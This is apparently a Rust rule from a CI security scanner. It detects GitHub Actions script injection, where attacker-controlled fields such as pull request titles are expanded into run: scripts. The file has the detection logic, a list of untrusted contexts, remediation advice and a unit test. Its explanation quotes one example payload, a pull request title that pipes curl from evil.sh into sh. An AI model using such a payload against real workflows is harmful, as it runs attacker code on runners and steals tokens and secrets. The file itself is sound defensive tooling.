//! `gha-script-injection`: attacker-controlled event data expanded into a shell script.

use serde_json::Value;
use vigil_core::{AssetKind, Evidence, FindingKind, Objective, Stride};
use vigil_model::github;

use crate::rule::{Context, Hit, Rule, RuleMeta};

#[derive(Debug)]
pub struct ScriptInjection;

/// Contexts anyone who can open an issue, a pull request or push a branch controls.
const UNTRUSTED: [&str; 17] = [
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.commits",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.workflow_run.head_branch",
    "github.head_ref",
];

static META: RuleMeta = RuleMeta {
    id: "gha-script-injection",
    title: "Untrusted input is expanded into a workflow script",
    kind: FindingKind::Threat,
    stride: &[Stride::Tampering, Stride::ElevationOfPrivilege],
    cwe: &["CWE-94", "CWE-78"],
    capec: &["CAPEC-88"],
    attack: &["T1059.004", "T1195.002"],
    likelihood: 7,
    impact: 8,
    what: "A `run:` script (or an `actions/github-script` `script:`) containing `${{ ... }}` of an \
           attacker-controlled context: issue, pull request, comment and review titles and bodies, commit \
           messages and authors, branch names (`github.head_ref`).",
    why: "`${{ }}` is substituted into the script text before the shell runs it, so a pull request titled \
          `a\"; curl evil.sh | sh; \"` executes commands in the runner with the workflow's token and secrets.",
    example: "- run: echo \"Title: ${{ github.event.pull_request.title }}\"",
    remediation: "Pass untrusted values through environment variables, never inline `${{ }}` in scripts.",
    fix: &[
        "Move the expression to `env:` (`TITLE: ${{ github.event.pull_request.title }}`) and use `\"$TITLE\"` in the script.",
        "Give the workflow the least `permissions:` it needs, so an injection has less to steal.",
    ],
    verify: &["No `run:` or `script:` in the workflow contains `${{ github.event.` of an untrusted field."],
    mitigated_by: &[],
    false_positives: "Contexts an outside contributor cannot control (`github.sha`, `github.run_id`, numeric ids) are not injection points; the rule only flags attacker-controllable ones.",
    references: &[
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
        "https://cwe.mitre.org/data/definitions/94.html",
    ],
    compliance: &[(Objective::PciDss4, "6.2.4"), (Objective::OwaspAsvs, "V5.3.8")],
};

impl Rule for ScriptInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, ctx: &Context<'_>) -> Vec<Hit> {
        let mut hits = Vec::new();
        for pipeline in ctx
            .inventory
            .of_kind(AssetKind::Pipeline)
            .filter(|p| vigil_model::github::is_github_actions(p))
        {
            for job in github::jobs(pipeline) {
                let job_id = github::job_id(job);
                for step in github::job_steps(job) {
                    let scripts = [
                        (
                            step.get("run").and_then(Value::as_str),
                            github::line_at(step, "/run_line"),
                        ),
                        (
                            step.pointer("/with/script").and_then(Value::as_str),
                            github::line_at(step, "/with_lines/script"),
                        ),
                    ];
                    for (script, line) in scripts {
                        let Some(script) = script else { continue };
                        for expression in untrusted_expressions(script) {
                            hits.push(Hit {
                                subject: format!("{}:{job_id}:{expression}", pipeline.id),
                                title: format!(
                                    "{}: job `{job_id}` runs `{expression}` as shell code",
                                    pipeline.name
                                ),
                                detail: format!(
                                    "`${{{{ {expression} }}}}` is substituted into the script before it runs"
                                ),
                                assets: vec![pipeline.id.clone()],
                                evidence: vec![
                                    Evidence::at(pipeline.path(), line)
                                        .with_note(format!("${{{{ {expression} }}}}")),
                                ],
                                exposes_to_internet: true,
                                likelihood: None,
                                impact: None,
                            });
                        }
                    }
                }
            }
        }
        hits
    }
}

/// The untrusted contexts used inside `${{ }}` in a script, in order, once each.
fn untrusted_expressions(script: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = script;
    while let Some(start) = rest.find("${{") {
        let after = &rest[start + 3..];
        let Some(end) = after.find("}}") else { break };
        let expression = after[..end].trim();
        if UNTRUSTED.iter().any(|u| expression.contains(u)) && !found.iter().any(|f: &String| f == expression)
        {
            found.push(expression.to_owned());
        }
        rest = &after[end + 2..];
    }
    found
}

#[cfg(test)]
mod tests {
    use super::untrusted_expressions;

    #[test]
    fn finds_untrusted_contexts_only() {
        let script =
            "echo ${{ github.event.pull_request.title }} ${{ github.sha }}\necho ${{github.head_ref}}";
        assert_eq!(
            untrusted_expressions(script),
            vec!["github.event.pull_request.title", "github.head_ref"]
        );
        assert!(untrusted_expressions("echo ${{ secrets.TOKEN }} ${{").is_empty());
    }
}
